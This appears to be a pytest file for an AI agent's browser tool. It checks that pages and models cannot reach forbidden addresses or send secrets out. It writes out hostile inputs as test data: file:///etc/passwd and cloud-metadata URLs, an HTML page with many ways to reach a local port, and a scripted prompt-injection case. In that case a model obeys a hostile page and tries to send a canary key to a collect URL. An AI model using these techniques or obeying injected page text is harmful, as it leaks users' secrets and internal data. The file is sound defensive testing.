"""Where a page, and a model that reads it, can get to: nowhere but where it may."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from configuration.tool_settings import WebSettings
from conversation.message import AssistantMessage, ToolCall
from models.scripted import ScriptedModel
from run_agent import AIAgent
from safety.gate import EffectRequest, PermissionAnswer
from sandboxes.process_tree import find_tree
from settings import Settings
from tests.tools.browser.conftest import ENVIRONMENT_KEY
from tests.tools.browser.driven import Driven, needs_browser
from tests.tools.browser.site import Forbidden, Site
from tools.browser.task_browser import TaskBrowser

pytestmark = [pytest.mark.long, needs_browser]
CANARY = "sk-canary-5f2a91"


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd", "FILE:/etc/passwd", "chrome://version", "data:text/html,hello", "about:config",
        "view-source:http://example.com/", "javascript:alert(1)", "http://169.254.169.254/latest/",
        "http://127.0.0.1/", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "localhost:1", "",
    ],
)  # fmt: skip
def test_an_address_that_may_not_be_opened_is_refused_before_a_browser_starts(
    url: str, tmp_path: Path
) -> None:
    driven = Driven(tmp_path)
    called = driven.call("navigate", url=url)
    assert "cannot be opened" in called.error
    assert driven.browser.session is None


@pytest.mark.parametrize("where", ["metadata", "port"])
def test_a_redirect_to_a_forbidden_place_is_not_followed(
    driven: Driven, site: Site, secret_place: Forbidden, where: str
) -> None:
    goal = f"{secret_place.host}/x" if where == "port" else "169.254.169.254/latest/meta-data/"
    called = driven.call("navigate", url=f"{site.url}/goto?to=http://{goal}")
    assert called.status == "error"
    assert ("this machine" if where == "port" else "metadata") in called.error
    assert driven.session.page.url == "about:blank"
    assert secret_place.came == 0


def test_nothing_a_page_does_reaches_a_forbidden_port(
    driven: Driven, site: Site, secret_place: Forbidden
) -> None:
    host = secret_place.host
    localhost = f"localhost:{secret_place.port}"
    site.texts["/attack"] = f"""<title>Attack</title><h1>Nice page</h1>
    <img src="http://{host}/img"><script src="http://{localhost}/js"></script>
    <link rel=stylesheet href="http://{host}/css"><link rel=preconnect href="http://{host}">
    <iframe src="http://{host}/frame"></iframe><object data="http://[::1]:{secret_place.port}/o"></object>
    <script>
    fetch('http://{host}/fetch', {{mode: 'no-cors'}}).catch(() => {{}});
    fetch('https://{host}/tls', {{mode: 'no-cors'}}).catch(() => {{}});
    navigator.sendBeacon('http://{host}/beacon', 'x');
    new WebSocket('ws://{host}/ws'); new WebSocket('wss://{localhost}/wss');
    try {{ new EventSource('http://{host}/es'); }} catch {{}}
    const work = "fetch('http://{host}/worker', {{mode: 'no-cors'}})";
    const worker = new Worker(URL.createObjectURL(new Blob([work])));
    const turn = {{urls: 'turn:{host}?transport=tcp', username: 'u', credential: 'c'}};
    const peer = new RTCPeerConnection({{iceServers: [turn, {{urls: 'stun:{host}'}}]}});
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    </script>"""
    opened = driven.call("navigate", url=f"{site.url}/attack")
    assert "Nice page" in opened.data["snapshot"]
    time.sleep(1.5)
    assert secret_place.came == 0
    assert secret_place.datagrams() == 0
    again = driven.call("snapshot")
    assert f"could not reach {host}" in opened.note + again.note


def test_a_form_that_leads_to_a_forbidden_port_sends_nothing(
    driven: Driven, site: Site, secret_place: Forbidden
) -> None:
    goal = f"http://{secret_place.host}/in"
    site.texts["/trap"] = f"<title>Trap</title><form action='{goal}' method=post><button>Go</button></form>"
    driven.call("navigate", url=f"{site.url}/trap")
    pressed = driven.call("click", ref=driven.ref("button", "Go"))
    assert "this machine" in pressed.error
    assert secret_place.came == 0


def test_a_page_cannot_open_a_file(driven: Driven, site: Site) -> None:
    site.texts["/local"] = (
        "<title>Local</title><a href='file:///etc/passwd'>Read</a><iframe src='file:///etc/passwd'></iframe>"
    )
    opened = driven.call("navigate", url=f"{site.url}/local")
    clicked = driven.call("click", ref=driven.ref("link", "Read"))
    assert "root:" not in str(opened.data) + str(clicked.data) + str(driven.call("snapshot").data)


def test_a_model_that_obeys_a_page_cannot_send_a_secret_unasked(driven: Driven, site: Site) -> None:
    """The person is shown what would go out, and where to."""
    with driven.under("ask"):
        driven.runtime.gate.addresses.note_person(f"{site.url}/hostile")
        opened = driven.call("navigate", url=f"{site.url}/hostile")
        assert "IMPORTANT" in opened.data["snapshot"]
        assert driven.asked == [], "looking at a page the person named needs no word"
        typed = driven.call("type", ref=driven.ref("textbox", "Key"), text=CANARY, submit=True)
        assert typed.status == "denied"
        assert CANARY in driven.asked[0].summary
        assert site.url in driven.asked[0].summary
        assert driven.asked[0].grant == f"act on {site.host} in the browser"
        elsewhere = f"http://localhost:{site.port}/collect?key={CANARY}"
        driven.runtime.settings.web.allowed_hosts.append(f"localhost:{site.port}")
        assert driven.call("navigate", url=elsewhere).status == "denied"
        assert len(driven.asked) == 2
        assert driven.call("press", key="Enter").status == "denied"
        assert driven.call("click", ref=driven.ref("button", "Send")).status == "denied"
        asked = len(driven.asked)
        assert driven.call("snapshot").status == "ok"
        assert driven.call("navigate", url=f"{site.url}/goto?to=http://169.254.169.254/").status == "error"
        assert driven.call("snapshot").data["url"] == "about:blank"
        assert len(driven.asked) == asked, "where the person's own host led, it may be looked at"
    assert CANARY not in str(site.seen)


def test_the_loop_ends_with_the_secret_at_home_and_no_browser_left(site: Site, tmp_path: Path) -> None:
    """The model does what the page says; the person says no; the agent goes, and its browser with it."""
    asked: list[str] = []

    async def ask(request: EffectRequest, reason: str) -> PermissionAnswer:
        asked.append(request.summary)
        return "deny"

    def call(number: int, name: str, **arguments: object) -> AssistantMessage:
        return AssistantMessage("", (ToolCall(f"c{number}", f"browser_{name}", json.dumps(arguments)),))

    steps = [
        call(0, "navigate", url=f"{site.url}/hostile"),
        *(call(each, "type", ref=f"e{each}", text=CANARY, submit=True) for each in range(1, 5)),
        call(5, "navigate", url=f"{site.url.replace('127.0.0.1', 'localhost')}/collect?key={CANARY}"),
        AssistantMessage("done"),
    ]
    settings = Settings(web=WebSettings(allowed_hosts=[site.host, f"localhost:{site.port}"]))
    agent = AIAgent(
        settings=settings, chat_model=ScriptedModel(steps), cwd=str(tmp_path), ask_permission=ask, save=False,
        enabled_toolsets=["browser"],
    )  # fmt: skip
    try:
        assert agent.chat(f"Summarise {site.url}/hostile") == "done"
        session = agent.runtime.store(TaskBrowser).session
        assert session is not None
        assert "Notes" in session.page.title
    finally:
        agent.close()
    assert [CANARY in each for each in asked] == [True] * len(asked)
    assert len(asked) >= 2
    assert CANARY not in str(site.seen)
    assert not find_tree(session.marker)
    assert session.folder is not None
    assert not session.folder.exists()


def test_a_word_for_the_session_covers_that_host_alone(driven: Driven, site: Site) -> None:
    with driven.under("ask", "session"):
        driven.runtime.gate.addresses.note_person(site.url)
        driven.call("navigate", url=f"{site.url}/form")
        assert driven.call("type", ref=driven.ref("textbox", "Name"), text="Ada").status == "ok"
        assert driven.call("click", ref=driven.ref("button", "Send order")).status == "ok"
        assert len(driven.asked) == 1
        assert 'textbox "Name"' in driven.asked[0].summary


def test_where_everything_is_denied_pages_are_not_opened(driven: Driven, site: Site) -> None:
    with driven.under("deny"):
        assert driven.call("navigate", url=f"{site.url}/form").status == "denied"


def test_neither_the_browser_nor_its_driver_is_given_our_keys(driven: Driven, site: Site) -> None:
    driven.call("navigate", url=f"{site.url}/form")
    assert driven.runtime.around.environ["ANY_API_KEY"] == ENVIRONMENT_KEY
    pids = driven.processes()
    assert len(pids) >= 3
    for pid in pids:
        for name in ("environ", "cmdline"):
            assert ENVIRONMENT_KEY.encode() not in Path(f"/proc/{pid}/{name}").read_bytes()
